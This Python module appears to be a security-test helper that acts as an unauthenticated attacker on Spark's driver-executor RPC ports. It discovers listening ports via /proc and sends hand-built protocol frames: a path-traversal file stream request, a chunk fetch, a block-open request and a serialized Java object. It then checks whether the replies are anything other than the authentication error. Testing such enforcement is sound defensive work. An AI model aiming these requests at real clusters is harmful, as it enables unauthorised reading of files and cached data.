"""An attacker at the ports between a driver and its executors: speaks Spark's wire format without the secret."""

import socket
import struct
from pathlib import Path

LOOPBACK = "127.0.0.1"
_LISTENS = "0A"
_CHUNK_REQUEST, _RPC_REQUEST, _STREAM_REQUEST = 0, 3, 6
_OPEN_BLOCKS = 0
_UNKNOWN = (b"Unauthenticated call to stream manager", b"Unknown challenge message")
_JAVA_OBJECT = b"\xac\xed\x00\x05t\x00\x03abc"


def listening_ports(pid: int) -> set[int]:
    """Return the TCP ports that a process listens on."""
    descriptors = (each.readlink().name for each in Path(f"/proc/{pid}/fd").iterdir() if each.is_symlink())
    sockets = {each.removeprefix("socket:[").removesuffix("]") for each in descriptors if each.startswith("socket:[")}
    tables = (Path(f"/proc/{pid}/net/{each}").read_text(encoding="ascii").splitlines()[1:] for each in ("tcp", "tcp6"))
    rows = (line.split() for table in tables for line in table)
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == _LISTENS and row[9] in sockets}


def is_known(answer: bytes) -> bool:
    """Return whether an answer is anything other than the error for a missing secret."""
    return not any(each in answer for each in _UNKNOWN)


def answers(port: int, file: Path) -> dict[str, bytes]:
    """Return the answer to each kind of request: a file by its name, a chunk, rows, and a serialized Java object."""
    name = b"/artifacts" + b"/.." * 20 + str(file).encode()
    blocks = [_text(each) for each in (b"app", b"executor")] + [struct.pack(">i", 1), _text(b"broadcast_0_piece0")]
    messages = {
        "a file": (_STREAM_REQUEST, _text(name)),
        "a chunk": (_CHUNK_REQUEST, struct.pack(">qi", 0, 0)),
        "rows": (_RPC_REQUEST, _body(bytes([_OPEN_BLOCKS]) + b"".join(blocks))),
        "an object": (_RPC_REQUEST, _body(_JAVA_OBJECT)),
    }
    return {what: _answer(port, kind, body) for what, (kind, body) in messages.items()}


def _answer(port: int, kind: int, body: bytes) -> bytes:
    with socket.create_connection((LOOPBACK, port), timeout=10) as stranger:
        stranger.sendall(struct.pack(">qB", 9 + len(body), kind) + body)
        answer = stranger.recv(8, socket.MSG_WAITALL)
        return stranger.recv(struct.unpack(">q", answer)[0] - 8, socket.MSG_WAITALL)


def _text(value: bytes) -> bytes:
    return struct.pack(">i", len(value)) + value


def _body(value: bytes) -> bytes:
    return struct.pack(">qi", 1, len(value)) + value
